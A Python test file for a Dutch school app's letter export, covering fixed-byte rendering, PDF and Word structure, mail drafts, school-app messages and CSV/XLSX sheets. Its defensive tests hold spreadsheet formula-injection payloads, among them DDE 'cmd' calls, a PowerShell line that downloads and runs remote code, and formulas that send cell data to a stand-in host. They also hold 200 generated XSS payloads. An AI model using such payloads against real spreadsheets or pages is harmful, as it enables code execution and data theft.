"""What leaves: the letter as files that stay the same, as a message for the school app and as a mail, and as sheets."""

import csv
import email
import io
import random
import re
import time
from collections.abc import Callable
from dataclasses import replace
from email.message import EmailMessage
from email.policy import SMTP
from html.parser import HTMLParser

import pytest
import python_calamine
from docx.document import Document as WordDocument

from app.models.aftercare.subjects import subjects
from app.models.evening import Evening
from app.models.followup.frozen_letter import frozen, thawed
from app.models.followup.letter import Letter, Shape
from app.models.followup.publications import Length
from app.models.seats.people import Counts, People
from app.reports.document import Doc
from app.reports.invitation import invitation
from app.reports.letter.as_sheet import Spreadsheet, begins_formula, to_csv, to_xlsx
from app.reports.letter.drafts import TITLES, letter
from app.reports.letter.pages import document_of
from app.reports.letter.school_app import MOST_SIGNS, to_school_app
from app.reports.letter.sheets import actions_sheet, quotes_sheet
from app.reports.papers import render
from tests.reports.letter.letters import TODAY, held, random_evening
from tests.reports.making import full, pdf, pdf_text, squeezed, tags, word, word_text

KINDS = ("docx", "pdf", "html", "txt", "eml")
FORMULAS = (
    *(f"{sign}1+1" for sign in "=+-@|%"),
    *(f"{sign}SUM(1)" for sign in ("＝", "＋", "－", "＠")),
    *(f"{before}=1+1" for before in (" ", "\t", "\n", "\r", "\u200b", "\u00a0", "\ufeff", "\u2003", "\u202e", "\u0301")),
    *("=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
    *('=HYPERLINK("http://kwaad.example","klik")', '=WEBSERVICE("http://kwaad.example/?"&A1)', "=DDE(\"cmd\";\"/C calc\";\"x\")"),
    *("=IMPORTXML(CONCAT(\"http://kwaad.example/\",A1),\"//a\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
    *("=1;2", '=1",2', "='x", '="x"', "=A1\n=A2", "==1", "=-1", "+-1", "--1", "@@1", "=\u200b1", "- een lijst", "+31 6 1234"),
)  # fmt: skip


def made(kind: str, length: Length = Length.REPORT, evening: Evening | None = None) -> bytes:
    return render(document_of(letter(evening or held(), length, TODAY)), kind).raw


@pytest.mark.parametrize("kind", KINDS)
def test_a_frozen_letter_gives_the_same_bytes_at_another_moment(kind: str, monkeypatch: pytest.MonkeyPatch) -> None:
    text = frozen(letter(held(), Length.REPORT, TODAY))
    first = render(document_of(thawed(text)), kind).raw
    monkeypatch.setattr(time, "localtime", lambda *_: time.struct_time((2031, 5, 6, 7, 8, 9, 1, 126, 0)))
    monkeypatch.setattr(time, "time", lambda: 1_935_000_000.0)
    random.seed(7)
    assert render(document_of(thawed(text)), kind).raw == first


@pytest.mark.parametrize("seed", range(8))
def test_a_frozen_letter_reads_back_as_it_was(seed: int) -> None:
    for length in TITLES:
        whole = letter(random_evening(random.Random(seed)), length, TODAY)
        assert thawed(frozen(whole)) == whole


def test_words_that_look_like_marks_come_back_letter_for_letter() -> None:
    odd = replace(held(), title='~said ~ {"~words": 1}')
    whole = letter(odd, Length.REPORT, TODAY)
    assert thawed(frozen(whole)) == whole


@pytest.mark.parametrize("length", list(TITLES))
def test_the_pdf_is_tagged_and_has_its_headings_and_its_language(length: Length) -> None:
    raw = made("pdf", length)
    found = tags(raw)
    assert found.count("H1") == 1
    assert {"H2", "P", "Table", "TH"} <= set(found)
    assert str(pdf(raw).Root.Lang).startswith("nl")
    assert str(pdf(raw).Root.MarkInfo.Marked).lower() == "true"


def styles(document: WordDocument) -> set[str]:
    return {paragraph.style.name for paragraph in document.paragraphs if paragraph.style is not None}


@pytest.mark.parametrize("length", list(TITLES))
def test_the_word_file_has_real_styles_and_heads_that_come_back(length: Length) -> None:
    document = word(made("docx", length))
    assert {"Heading 1", "Heading 2", "Normal", "List Bullet"} <= styles(document)
    assert document.tables
    for table in document.tables:
        head = table.rows[0]._tr.trPr
        assert head is not None
        assert any(child.tag.endswith("}tblHeader") for child in head)


def test_all_kinds_hold_the_same_words() -> None:
    words = squeezed(made("txt").decode())
    assert squeezed("Waarom niet? Het rooster hangt vast aan de bussen.") in words
    read: dict[str, Callable[[bytes], str]] = {"docx": word_text, "pdf": pdf_text, "html": bytes.decode}
    for kind, reader in read.items():
        found = squeezed(reader(made(kind)))
        for part in letter(held(), Length.REPORT, TODAY).parts:
            for sentence in part.sentences():
                assert squeezed(sentence.words) in found, (kind, sentence.words)


def test_the_mail_is_a_draft_without_a_moment_and_with_its_letters_named() -> None:
    draft = email.message_from_bytes(made("eml"), policy=SMTP)
    assert isinstance(draft, EmailMessage)
    assert draft["Subject"] == "Verslag van de avond: Samen over aanwezigheid, 10 november 2026"
    assert (draft["Date"], draft["X-Unsent"]) == (None, "1")
    assert {part.get_content_charset() for part in draft.walk() if not part.is_multipart()} == {"utf-8"}
    assert draft.get_content_type() == "multipart/alternative"


def test_the_calendar_in_a_mail_says_its_letters_and_what_to_do_with_it() -> None:
    draft = email.message_from_bytes(render(invitation(full(), TODAY), "eml").raw, policy=SMTP)
    entry = next(part for part in draft.walk() if part.get_content_type() == "text/calendar")
    assert (entry.get_content_charset(), entry.get_param("method")) == ("utf-8", "PUBLISH")


# For the school app


def test_the_school_app_gets_the_brief_as_a_message() -> None:
    words = to_school_app(letter(held(), Length.BRIEF, TODAY))
    assert words.startswith("U zei, wij doen\n\nSamen over aanwezigheid")
    row = "- De mentor belt na de eerste gemiste dag. Wie: teamleiders. Wanneer: 15 januari 2027. Hier merkt u het aan: U wordt"
    assert row in words
    assert "\u2068" not in words
    assert len(words) <= MOST_SIGNS


@pytest.mark.parametrize("seed", range(12))
def test_the_message_never_has_more_signs_and_counts_what_it_leaves_out(seed: int) -> None:
    evening = random_evening(random.Random(seed))
    longer = " en daar willen wij het graag met elkaar over hebben" * (seed % 5)
    points = tuple(replace(point, text=point.text + longer) for point in evening.points)
    whole = letter(replace(evening, points=points), Length.BRIEF, TODAY)
    words = to_school_app(whole)
    assert len(words) <= MOST_SIGNS
    left = re.search(r"In het verslag sta\w+ nog (\d+) onderwerp", words)
    told = sum(words.count(f"{point.text.split()[0]}") for point in points) + sum(
        words.count(text) for form in evening.harvests for text in (form.pitch, form.question) if text
    )
    told += sum(words.count(quote.text) for quote in evening.quotes if quote.parked)
    assert told + int(left[1] if left else 0) == len(subjects(evening))


def test_words_that_have_to_stay_are_cut_off_at_the_last_sign() -> None:
    wordy = replace(held(), details=replace(held().details, next_steps="Wij gaan verder. " * 300))
    words = to_school_app(letter(wordy, Length.BRIEF, TODAY))
    assert len(words) <= MOST_SIGNS
    assert words.endswith("…")


# Sheets


def test_every_quote_and_every_action_has_its_row() -> None:
    sheet = quotes_sheet(held())
    assert [row[0] for row in sheet.rows] == [quote.text for quote in held().quotes]
    first = dict(zip(sheet.head, sheet.rows[0], strict=True))
    assert (first["Stem"], first["Ster"], first["Hoort bij"], first["Antwoord"]) == (
        "ouder",
        "ja",
        "Bel eerder",
        "doen we",
    )
    few = quotes_sheet(replace(held(), people=People(came=Counts(4, 9, 9))))
    assert {row[1] for row in few.rows} == {""}
    actions = actions_sheet(held())
    assert [row[4] for row in actions.rows] == ["nog niet begonnen", "bezig", "vervallen"]
    assert actions.rows[0][6] == "Bel eerder\nWij bellen voor het misgaat"


def test_a_sheet_reads_back_in_both_kinds() -> None:
    sheet = quotes_sheet(held())
    rows = [[str(cell) for cell in row] for row in (sheet.head, *sheet.rows)]
    assert rows == [[str(cell) for cell in row] for row in csv_rows(to_csv(sheet))]
    book = python_calamine.load_workbook(io.BytesIO(to_xlsx([sheet, actions_sheet(held())])))
    assert book.sheet_names == ["Uitspraken", "Acties"]
    read = book.get_sheet_by_name("Uitspraken").to_python()
    assert [[_words(cell) for cell in row] for row in read] == rows


def _words(cell: object) -> str:
    return str(int(cell)) if isinstance(cell, float) else str(cell)


def csv_rows(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_there_are_forty_formulas() -> None:
    assert len(set(FORMULAS)) >= 40


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_words_in_every_sheet(formula: str) -> None:
    assert begins_formula(formula)
    sheet = Spreadsheet("Blad", ("kop",), (10,), ((formula,), ("gewoon",)))
    cells = [row[0] for row in csv_rows(to_csv(sheet))]
    assert cells[1].startswith("'")
    assert cells[2] == "gewoon"
    raw = to_xlsx([sheet])
    assert b"<f>" not in _sheet_xml(raw)
    assert b'quotePrefix="1"' in _part(raw, "xl/styles.xml")
    assert b's="3"' in _sheet_xml(raw)


def test_what_is_no_formula_stays_as_it_is() -> None:
    sheet = Spreadsheet("Blad", ("kop",), (10,), (("Ik zei: = en + doen mee",), ("(- nee)",), ("3",)))
    assert [row[0] for row in csv_rows(to_csv(sheet))][1:] == ["Ik zei: = en + doen mee", "(- nee)", "3"]


def _part(raw: bytes, name: str) -> bytes:
    import zipfile

    return zipfile.ZipFile(io.BytesIO(raw)).read(name)


def _sheet_xml(raw: bytes) -> bytes:
    return _part(raw, "xl/worksheets/sheet1.xml")


# Scripts


class Alive(HTMLParser):
    """Collects what in a page could do something by itself or ask something of another place."""

    LIVE = ("script", "iframe", "object", "embed", "img", "svg", "link", "form", "input", "a", "base", "video", "audio")

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in self.LIVE:
            self.found.append(tag)
        self.found += [
            name for name, _ in attrs if name.startswith("on") or name in ("src", "href", "srcdoc", "action")
        ]
        self.found += [name for name, value in attrs if name == "style" and "url(" in (value or "")]
        if tag == "meta" and dict(attrs).get("http-equiv", "").lower() == "refresh":
            self.found.append("refresh")


TAGS = ("script", "img src=x", "svg", "iframe src=javascript:x", "a href=javascript:x", "body", "details open", "video src=x",
        "object data=x", "meta http-equiv=refresh content=0")  # fmt: skip
EVENTS = ("", " onerror=alert(1)", " onload=alert(1)", ' onclick="alert(1)"', " onmouseover='alert(1)'")
BREAKS = ("", '">', "</p>", "<!--")
SCRIPTS = tuple(f"{out}<{tag}{event}>alert(1)</{tag.split()[0]}>" for tag in TAGS for event in EVENTS for out in BREAKS)


def test_two_hundred_scripts_do_nothing_in_any_place_of_the_page() -> None:
    assert len(set(SCRIPTS)) == 200
    alive = Alive()
    alive.feed(made("html").decode())
    assert alive.found == []
    words = iter(SCRIPTS * 2)
    planted = held()
    planted = replace(
        planted,
        quotes=tuple(replace(quote, text=next(words)) for quote in planted.quotes),
        points=tuple(replace(point, text=next(words)) for point in planted.points),
        harvests=tuple(replace(form, pitch=next(words), question=next(words), school=next(words)) for form in planted.harvests),
        followup=replace(
            planted.followup,
            answers=tuple(replace(answer, words=next(words), owner=next(words)) for answer in planted.followup.answers),
            actions=tuple(replace(one, title=next(words), notice=next(words)) for one in planted.followup.actions) * 8,
            through=next(words),
        ),
        title=next(words),
    )  # fmt: skip
    quotes = (*planted.quotes, *(replace(planted.quotes[0], id=f"x{n}", text=one) for n, one in enumerate(SCRIPTS)))
    for length in TITLES:
        doc: Doc = document_of(letter(replace(planted, quotes=quotes), length, TODAY, with_quotes=True))
        page = Alive()
        raw = render(doc, "html").raw.decode()
        page.feed(raw)
        assert page.found == []
        assert "alert(1)" in raw
    whole = letter(replace(planted, quotes=quotes), Length.REPORT, TODAY, with_quotes=True)
    assert count_of_quotes(whole) == len(quotes)


def test_that_check_sees_a_script_that_is_let_through() -> None:
    alive = Alive()
    alive.feed(f"<p>{SCRIPTS[1]}</p><p onclick=x>")
    assert alive.found


# The annex


def count_of_quotes(whole: Letter) -> int:
    annex = whole.part("annex")
    return sum(passage.shape is Shape.QUOTE for passage in annex.passages()) if annex else 0


@pytest.mark.parametrize("seed", range(12))
def test_all_that_was_said_stands_in_the_annex_once(seed: int) -> None:
    evening = random_evening(random.Random(seed))
    whole = letter(evening, Length.REPORT, TODAY, with_quotes=True)
    annex = whole.part("annex")
    found = (
        [source for one in annex.sentences() for source in one.sources if source.startswith("quote")] if annex else []
    )
    assert sorted(found) == sorted(f"quote:{quote.id}" for quote in evening.quotes)
    assert letter(evening, Length.REPORT, TODAY).part("annex") is None
